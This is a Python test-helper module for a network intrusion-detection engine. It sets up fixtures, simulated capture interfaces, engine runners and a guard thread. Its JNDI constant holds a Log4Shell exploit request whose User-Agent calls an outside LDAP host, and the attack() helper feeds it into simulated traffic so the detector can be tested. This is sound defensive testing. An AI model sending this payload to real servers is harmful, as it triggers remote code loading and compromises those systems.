"""A whole engine on a bench: real stages and database, on captures or on a wire that the test feeds."""

from __future__ import annotations

import asyncio
import atexit
import contextlib
import functools
import queue
import shutil
import socket
import sqlite3
import tempfile
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterable, Iterator, Sequence
from contextlib import asynccontextmanager, closing, contextmanager
from functools import partial
from pathlib import Path
from typing import Any, TypeVar

from engine import paths
from engine.agent.recorded import RecordedHost
from engine.config import Settings
from engine.core import Engine
from engine.guard.client import GuardClient
from engine.hostdoor import HostDoor
from engine.intake import Intake
from engine.knowledge import Knowledge
from engine.plan import Plan
from engine.sources.pcapfile import CaptureError, PcapFile
from engine.store.database import Store, open_store
from engine.types import Capture, Event, Fault, Frame, IncidentView
from tests.engine.guard.bench import AT_TERMINAL, Bench
from tests.factories import ATTACKER, conversation

JNDI = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
LOCAL = ("192.0.2.1",)
PATIENCE_S = 30.0

_T = TypeVar("_T")


@functools.cache
def knowledge_cache() -> Path:
    """Return a knowledge base made once for every test."""
    folder = Path(tempfile.mkdtemp(prefix="aegis-bench-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    Knowledge(folder / "knowledge.db").close()
    return folder / "knowledge.db"


@asynccontextmanager
async def locked(database: Path) -> AsyncIterator[sqlite3.Connection]:
    """Hold a database's lock; what was written meanwhile is kept.

    It is waited for in another thread: what the engine writes at the moment ends only while its loop runs.
    """
    options: dict[str, Any] = {"isolation_level": None, "timeout": PATIENCE_S, "check_same_thread": False}
    with closing(sqlite3.connect(database, **options)) as other:
        await asyncio.to_thread(other.execute, "BEGIN EXCLUSIVE")
        yield other
        other.execute("COMMIT")


@functools.cache
def few_rules() -> Path:
    """Return a folder with one file of the shipped rules, which compile ten times as fast as all of them."""
    folder = Path(tempfile.mkdtemp(prefix="aegis-bench-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    shutil.copy(paths.RULES / "log4shell.yar", folder)
    return folder


def furnish(home: Path) -> None:
    """Lay a knowledge base and settings with few rules where a program of its own, at ``home``, looks for them."""
    (home / "aegis").mkdir(parents=True, exist_ok=True)
    (home / "aegis" / "knowledge.db").hardlink_to(knowledge_cache())
    (home / "aegis" / "config.toml").write_text(f'rules = "{few_rules()}"\n', encoding="utf-8")


def settings(**changes: Any) -> Settings:
    """Return settings with few rules."""
    return Settings(**({"rules": str(few_rules())} | changes))


def attack(src_ip: str = ATTACKER, at: float | None = None, request: bytes = JNDI) -> list[Frame]:
    """Return a connection with an exploit in it, from any IPv4 address, now or at another time."""
    began = time.time() if at is None else at
    old, new = socket.inet_aton(ATTACKER), socket.inet_aton(src_ip)
    frames = conversation(request)
    return [one._replace(ts=one.ts - 1000 + began, data=one.data.replace(old, new)) for one in frames]


class Wire:
    """An interface that a test feeds, with the manners of a live capture."""

    def __init__(self, name: str = "eth0") -> None:
        self.capture = Capture(name, 1)
        self._frames: queue.SimpleQueue[Sequence[Frame] | CaptureError] = queue.SimpleQueue()
        self._stopped = False
        self._seen = 0

    def send(self, frames: Sequence[Frame]) -> None:
        """Put frames on the wire."""
        self._frames.put(frames)

    def cut(self) -> None:
        """Take the interface away."""
        self._frames.put(CaptureError(self.capture.name, "The interface disappeared"))

    def batches(self) -> Iterator[list[Frame]]:
        """Yield what was sent, and an empty list where nothing was."""
        while not self._stopped:
            try:
                item = self._frames.get(timeout=0.02)
            except queue.Empty:
                yield []
                continue
            if isinstance(item, CaptureError):
                raise item
            self._seen += len(item)
            yield list(item)

    def stop(self) -> None:
        """End ``batches()``."""
        self._stopped = True

    def stats(self) -> tuple[int, int]:
        """Return the frames handed over, and none dropped."""
        return self._seen, 0


def live_plan(folder: Path, *wires: Wire, **changes: Any) -> Plan:
    """Return a plan that watches wires."""
    readers = [partial(Intake, wire, max_flows=1000, live=True) for wire in wires]
    values = {"open_readers": readers, "source": "live", "live": True, "local_ips": LOCAL}
    return _plan(folder, **(values | changes))


def replay_plan(folder: Path, *files: Path, **changes: Any) -> Plan:
    """Return a plan that replays captures."""
    readers = [partial(_open, file) for file in files]
    return _plan(folder, **({"open_readers": readers, "lockstep": True, "host": RecordedHost()} | changes))


def _open(file: Path) -> Intake:
    return Intake(PcapFile(file), max_flows=1000)


def _plan(folder: Path, **changes: Any) -> Plan:
    values: dict[str, Any] = {
        "source": "test.pcap",
        "title": "test",
        "settings": settings(),
        "database": folder / "aegis.db",
    }
    if "knowledge" not in changes:
        values["knowledge"] = knowledge_cache()
    return Plan(**(values | changes))


class Running:
    """An engine at work, and what it has said."""

    def __init__(self, engine: Engine) -> None:
        self.engine = engine
        self.events: list[Event] = []
        self._unheard: list[Event] = []
        self._queue = engine.subscribe()

    async def hears(self, kind: type[_T], fits: Callable[[_T], bool] = lambda _: True) -> _T:
        """Return the first event of a kind that fits and was not returned before, and wait for it."""
        for event in self._unheard:
            if isinstance(event, kind) and fits(event):
                self._unheard.remove(event)
                return event
        async with asyncio.timeout(PATIENCE_S):
            while True:
                event = await self._queue.get()
                self.events.append(event)
                if isinstance(event, kind) and fits(event):
                    return event
                self._unheard.append(event)

    async def fault(self, ability: str, *, cleared: bool = False) -> Fault:
        """Return the next fault of an ability, or the word that it is over."""
        return await self.hears(Fault, lambda fault: (fault.ability, fault.cleared) == (ability, cleared))


@asynccontextmanager
async def running(plan: Plan, door: HostDoor | None = None) -> AsyncIterator[Running]:
    """Run an engine until the block ends."""
    at_work = Running(Engine(plan, door))
    async with asyncio.timeout(2 * PATIENCE_S), asyncio.TaskGroup() as tasks:
        tasks.create_task(at_work.engine.run())
        try:
            yield at_work
        finally:
            at_work.engine.stop()


async def run(plan: Plan) -> tuple[Engine, list[Event]]:
    """Run an engine to its end and return everything it said."""
    events: list[Event] = []
    engine = Engine(plan, on_event=events.append)
    async with asyncio.timeout(2 * PATIENCE_S):
        await engine.run()
    return engine, events


def of_kind(events: Iterable[Event], kind: type[_T]) -> list[_T]:
    """Return the events of one kind."""
    return [event for event in events if isinstance(event, kind)]


def assert_accounted(engine: Engine) -> None:
    """Hold the accounting identity, exact since the queues are empty."""
    counters = engine.counters()
    assert counters.kernel_seen == counters.delivered + counters.kernel_dropped
    assert counters.delivered == counters.parsed + counters.filtered + counters.malformed
    assert counters.detections == counters.alerts + counters.deduplicated + counters.suppressed


async def stored(folder: Path) -> list[IncidentView]:
    """Return everything stored of every incident, oldest first."""
    async with open_store(folder / "aegis.db") as store:
        return [await _view(store, incident.id) for incident in reversed(await store.incidents())]


async def _view(store: Store, incident_id: str) -> IncidentView:
    view = await store.view(incident_id)
    assert view is not None
    return view


class GuardThread:
    """A guard with its ledger, rules and messages, and a map in memory, at the other end of a socket."""

    def __init__(self, folder: Path) -> None:
        self._ours, self._theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._serve, args=(folder,))
        self.bench: Bench
        self._thread.start()
        self._ready.wait(PATIENCE_S)
        self.door = HostDoor(GuardClient(self._ours))

    def kill(self) -> None:
        """Let the guard be gone at once."""
        self._theirs.shutdown(socket.SHUT_RDWR)
        self._thread.join(PATIENCE_S)

    def close(self) -> None:
        """End both sides."""
        self.kill()
        self.door.close()
        self._ours.close()
        self._theirs.close()

    def _serve(self, folder: Path) -> None:
        self.bench = Bench(folder)
        self._ready.set()
        with contextlib.suppress(OSError):
            while packet := self._theirs.recv(1 << 20):
                self._theirs.send(self.bench.guard.answer(packet, AT_TERMINAL))
        self.bench.ledger.close()


@contextmanager
def guarding(folder: Path) -> Iterator[GuardThread]:
    """Run a guard until the block ends."""
    guard = GuardThread(folder)
    try:
        yield guard
    finally:
        guard.close()
